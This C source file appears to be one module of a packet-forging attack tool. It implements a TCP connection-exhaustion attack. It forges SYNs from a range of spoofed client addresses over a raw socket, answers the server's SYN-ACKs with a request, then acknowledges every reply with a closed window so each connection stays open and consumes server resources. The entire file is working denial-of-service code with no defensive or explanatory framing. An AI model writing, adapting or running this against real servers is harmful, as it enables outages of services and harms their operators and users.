/* Clients that connect, ask for something and never open their window: no state but the next sequence number of each. */
#include "attacker.h"

#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <poll.h>
#include <string.h>
#include <sys/socket.h>

#define PORT 40000u
#define TEXT_BYTES 1000u

static uint32_t expected[ATTACKER_HELD_MAX + 1]; /* the server's next byte, by client */

struct held {
    struct forge_template syn, ask, ack;
};

static void send_one(struct attacker *attacker, const struct forge_template *template,
                     const struct forge_segment *segment)
{
    uint8_t frame[FORGE_MAX];

    memcpy(frame, template->frame, template->length);
    forge_fill(frame, template, segment);
    if (send(attacker->fd, frame, template->length, 0) > 0)
        attacker->sent++;
    else
        attacker->refused++;
}

static uint32_t address_of(const struct attacker *attacker, uint32_t client)
{
    return htonl(ntohl(attacker->order.from) + client);
}

static void prepare(struct held *held, const struct forge_plan *plan)
{
    struct forge_plan of = *plan;

    of.options = false;
    of.flags = FORGE_SYN;
    of.window = 1000; /* a SYN with a closed window would say too early what is coming */
    forge_prepare(&held->syn, &of);
    of.window = 0;
    of.flags = FORGE_ACK;
    forge_prepare(&held->ack, &of);
    of.flags = FORGE_ACK | FORGE_PSH;
    of.text_bytes = TEXT_BYTES;
    forge_prepare(&held->ask, &of);
}

static uint32_t get32(const uint8_t *at)
{
    return (uint32_t)at[0] << 24 | (uint32_t)at[1] << 16 | (uint32_t)at[2] << 8 | at[3];
}

/* Answers what the server says: SYN-ACKs with a question, probes and text with a closed window. */
static void answer(struct attacker *attacker, const struct held *held, const uint8_t *frame,
                   size_t length)
{
    if (length < 54 || frame[12] != 8 || frame[13] != 0 || frame[14] != 0x45 || frame[23] != 6)
        return;
    const uint8_t *tcp = frame + 34;
    uint32_t client = get32(frame + 30) - ntohl(attacker->order.from);
    uint32_t text = get32(frame + 14) & 0xffff, seq = get32(tcp + 4);
    uint8_t flags = tcp[13];

    if (client > ATTACKER_HELD_MAX || text < 40u || (flags & FORGE_RST))
        return;
    text -= 20u + (uint32_t)(tcp[12] >> 4) * 4;
    struct forge_segment segment = {
        .from = address_of(attacker, client), .from_port = PORT, .seq = get32(tcp + 8)};
    if (flags & FORGE_SYN)
        expected[client] = seq + 1;
    segment.ack = expected[client];
    if (flags & FORGE_SYN)
        send_one(attacker, &held->ask, &segment);
    else if (text > 0 || (flags & FORGE_FIN) || seq + 1 == expected[client])
        send_one(attacker, &held->ack, &segment);
}

static void answer_all(struct attacker *attacker, const struct held *held)
{
    struct sockaddr_ll from;
    uint8_t frame[2048];

    for (int i = 0; i < 256; i++) {
        socklen_t size = sizeof from;
        ssize_t got = recvfrom(attacker->fd, frame, sizeof frame, MSG_DONTWAIT,
                               (struct sockaddr *)&from, &size);

        if (got <= 0)
            return;
        if (from.sll_pkttype != PACKET_OUTGOING)
            answer(attacker, held, frame, (size_t)got);
    }
}

void attacker_hold(struct attacker *attacker)
{
    const struct attacker_order *order = &attacker->order;
    struct held held;
    uint64_t opened = 0;

    prepare(&held, &order->plan);
    while (attacker_goes_on(attacker)) {
        uint32_t due = opened < order->count ? attacker_due(attacker, opened, 16) : 0;

        for (uint32_t i = 0; i < due && opened < order->count; i++) {
            struct forge_segment segment = {.from = address_of(attacker, (uint32_t)++opened),
                                            .from_port = PORT,
                                            .seq = (uint32_t)attacker_random(attacker)};

            send_one(attacker, &held.syn, &segment);
        }
        struct pollfd arrived = {.fd = attacker->fd, .events = POLLIN};
        if (poll(&arrived, 1, opened < order->count ? 0 : 5) > 0)
            answer_all(attacker, &held);
    }
}
